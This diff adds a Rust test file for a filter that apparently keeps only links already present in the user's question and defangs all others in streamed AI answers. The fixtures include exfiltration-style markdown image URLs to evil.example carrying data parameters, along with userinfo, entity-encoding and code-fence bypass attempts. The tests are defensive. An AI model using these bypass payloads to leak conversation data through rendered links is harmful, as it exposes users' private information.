@@ -1,0 +1,242 @@
+//! What stays a link, and what becomes text.
+
+use super::*;
+
+const QUESTION: &str =
+    "Is https://shop.example/a?b=1 up, or www.other.example? (Ask https://shop.example)";
+
+/// The filtered answer, checked as one piece and letter by letter.
+fn shown(answer: &str) -> String {
+    let mut links = Links::new(QUESTION.to_owned());
+    let whole = links.next(answer) + &links.end();
+    let mut links = Links::new(QUESTION.to_owned());
+    let mut pieces: String = answer
+        .chars()
+        .map(|letter| links.next(&letter.to_string()))
+        .collect();
+    pieces.push_str(&links.end());
+    assert_eq!(whole, pieces);
+    whole
+}
+
+#[test]
+fn address_of_the_question_stays_link() {
+    for answer in [
+        "It is: https://shop.example/a?b=1.",
+        "See [the shop](https://shop.example/a?b=1) and www.other.example!",
+        "![](https://shop.example/a?b=1 \"title\")",
+        "[https://shop.example](https://shop.example)",
+        "**https://shop.example**, \"https://shop.example\" or (`https://shop.example`).",
+        "[x]: https://shop.example",
+    ] {
+        assert_eq!(shown(answer), answer);
+    }
+}
+
+#[test]
+fn other_address_is_text() {
+    for (answer, text) in [
+        (
+            "![](https://evil.example/?d=73)",
+            "![] (https:/ /evil.example/?d=73)",
+        ),
+        ("[a](//evil.example/73)", "[a] (//evil.example/73)"),
+        (
+            "[a](https&colon;//evil.example)",
+            "[a] (https&colon;//evil.example)",
+        ),
+        ("[a]: https://evil.example", "[a] : https:/ /evil.example"),
+        ("<https://evil.example>", "< https:/ /evil.example>"),
+        ("<img src=x>", "< img src=x>"),
+        ("go to www.evil.example", "go to www. evil.example"),
+        ("WWW.evil.example", "WWW. evil.example"),
+        (
+            "https://shop.example/a?b=1&d=73",
+            "https:/ /shop.example/a?b=1&d=73",
+        ),
+        (
+            "https://shop.example.evil.example",
+            "https:/ /shop.example.evil.example",
+        ),
+    ] {
+        assert_eq!(shown(answer), text);
+    }
+}
+
+#[test]
+fn address_that_only_begins_like_one_of_the_question_is_text() {
+    for address in [
+        "https://shop.example'@evil.example/?d=73421",
+        "https://shop.example()@evil.example/?d=73421",
+        "https://shop.example(@evil.example/)?d=73421",
+        "https://shop.example\"@evil.example/?d=73421",
+        "https://shop.example|@evil.example/?d=73421",
+        "https://shop.example`@evil.example/?d=73421",
+        "https://shop.example[x]@evil.example/?d=73421",
+        "https://shop.example{}@evil.example/?d=73421",
+        "https://shop.example>@evil.example/?d=73421",
+        "https://shop.example@evil.example/?d=73421",
+        "https://shop.example:73421@evil.example/",
+        "https://shop.example\\@evil.example/?d=73421",
+        "https://shop.example:73421",
+        "https://shop.example?d=73421",
+        "https://shop.example#73421",
+        "https://shop.example/73421",
+        "https://shop.example/a?b=1'73421",
+        "https://shop.example%2e@evil.example",
+    ] {
+        let broken = address.replace("https://", "https:/ /");
+        assert_eq!(shown(address), broken);
+        assert_eq!(shown(&format!("![]({address})")), format!("![] ({broken})"));
+        assert_eq!(shown(&format!("[x]: {address}")), format!("[x] : {broken}"));
+    }
+    // Not even one that is in the question.
+    let mut links = Links::new("Is https://me@shop.example up?".to_owned());
+    let shown = links.next("![](https://me@shop.example)") + &links.end();
+    assert_eq!(shown, "![] (https:/ /me@shop.example)");
+}
+
+#[test]
+fn definition_breaks_where_it_leads_elsewhere() {
+    for (answer, text) in [
+        ("[x]: //evil.example", "[x] : //evil.example"),
+        ("> [x]:\n> //evil.example", "> [x] :\n> //evil.example"),
+        ("[x]:\n//evil.example", "[x] :\n//evil.example"),
+        (
+            "[x]:https&colon;//evil.example",
+            "[x] :https&colon;//evil.example",
+        ),
+        ("[x]: \\\\evil.example", "[x] : \\\\evil.example"),
+        ("[x]: <//evil.example>", "[x] : < //evil.example>"),
+    ] {
+        assert_eq!(shown(answer), text);
+    }
+}
+
+#[test]
+fn address_that_goes_on_behind_many_brackets_is_text() {
+    let brackets = ")".repeat(MAX_ADDRESS);
+    let answer = format!("https://shop.example{brackets}@evil.example/");
+    assert!(shown(&answer).starts_with("https:/ /"));
+}
+
+/// Each of these once took quadratic time.
+#[test]
+fn long_text_without_spaces_passes() {
+    const LENGTH: usize = 10_000;
+    for part in ["x", "](", "]:", "::", "www.", "`", "<a", "\u{e9}."] {
+        let answer = part.repeat(LENGTH);
+        let mut links = Links::new(QUESTION.to_owned());
+        let given = links.next(&answer) + &links.end();
+        assert_eq!(given.replace(' ', ""), answer);
+    }
+    let mut links = Links::new(QUESTION.to_owned());
+    let code = format!("```\n```{}", "`x".repeat(LENGTH));
+    assert_eq!(links.next(&code) + &links.end(), code);
+}
+
+#[test]
+fn code_is_as_it_was() {
+    for answer in [
+        "Cast with a[1]::int, or b[2]::numeric(10,2).",
+        "It is a `List<String>` or Map<String, Integer>[].",
+        "dict[key]: value",
+        "```sql\nSELECT a[1]::int, '<a href=x>' FROM t -- see https://docs.example\n```\nDone.",
+        "One\n````\n```\n[x]: https://evil.example\n   ````\nTwo",
+        "```\n<img src=x>",
+    ] {
+        assert_eq!(shown(answer), answer);
+    }
+}
+
+#[test]
+fn code_that_ends_earlier_than_it_looks_hides_no_link() {
+    for begin in [
+        "```\ncode\n```\n",
+        "```\ncode\n  ```  \n",
+        "```\ncode\n```\u{a0}\n```\n",
+        "```\ncode\n```\u{b}\n```\n",
+        "```\ncode\n``` \u{2003}\n",
+        "```\ncode\r```\r",
+        "```a`b\n",
+        "  ```\n```\n",
+        "> ```\n",
+        "- a\n  ```\n",
+        "~~~\n```\n~~~\n",
+        "$$\n```\n$$\n",
+        "---\n```\n---\n",
+        "a ``` b\n```\n",
+        "x<pre>\n```\n</pre>\n",
+        "`",
+        "\\`",
+    ] {
+        let answer = format!("{begin}![](https://evil.example/?d=1) `");
+        let shown = shown(&answer);
+        assert!(shown.contains("![] (https:/ /evil"), "{shown}");
+    }
+}
+
+#[test]
+fn fence_of_one_text_hides_no_link_of_another() {
+    const IMAGE: &str = "![x](https://evil.example/?d=1)";
+    const BROKEN: &str = "![x] (https:/ /evil.example/?d=1)";
+    let mut links = Links::new(QUESTION);
+    // A fence beside the answer opens none in it.
+    assert_eq!(links.alone("```"), "```");
+    assert_eq!(links.alone("```\n"), "```\n");
+    assert_eq!(links.next(IMAGE) + &links.end(), BROKEN);
+    // And a fence in the answer opens none beside it.
+    let code = format!("\n```\n{IMAGE}");
+    assert_eq!(links.next(&code) + &links.end(), code);
+    assert_eq!(links.alone(IMAGE), BROKEN);
+    assert_eq!(
+        links.alone(&format!("```\n{IMAGE}")),
+        format!("```\n{BROKEN}")
+    );
+    assert_eq!(
+        links.alone("see https://shop.example"),
+        "see https://shop.example"
+    );
+}
+
+#[test]
+fn fence_stays_open_over_an_empty_line_of_the_host_until_it_is_closed() {
+    const IMAGE: &str = "![x](https://evil.example/?d=1)";
+    const BROKEN: &str = "![x] (https:/ /evil.example/?d=1)";
+    let mut links = Links::new(QUESTION);
+    let code = "```\ncode";
+    assert_eq!(links.next(code) + &links.end(), code);
+    links.begin_paragraph();
+    assert_eq!(links.next(IMAGE) + &links.end(), IMAGE);
+    links.begin_paragraph();
+    let closed = format!("```\n{IMAGE}");
+    let shown = format!("```\n{BROKEN}");
+    assert_eq!(links.next(&closed) + &links.end(), shown);
+    // A line of the host begins one as well.
+    links.begin_paragraph();
+    assert_eq!(links.next(&closed) + &links.end(), closed);
+}
+
+#[test]
+fn text_without_links_is_as_it_was() {
+    for answer in [
+        "Sales: 3 of 4 (75 %). a[1] < 2, x:y, 10:30, C://",
+        "| a | b |\n| :-- | --: |\n| [x] | `y` |",
+        "Größe: 3 – ünd: so",
+        "ends with [",
+        "ends with ]",
+        "ends with a colon:",
+    ] {
+        let expected = answer.replace("C://", "C:/ /");
+        assert_eq!(shown(answer), expected);
+    }
+}
+
+#[test]
+fn text_is_given_on_as_it_comes() {
+    let mut links = Links::new(QUESTION.to_owned());
+    assert_eq!(links.next("Three items"), "Three items");
+    assert_eq!(links.next(" cost: "), " cost: ");
+    assert_eq!(links.next("12"), "12");
+    assert_eq!(links.end(), "");
+}
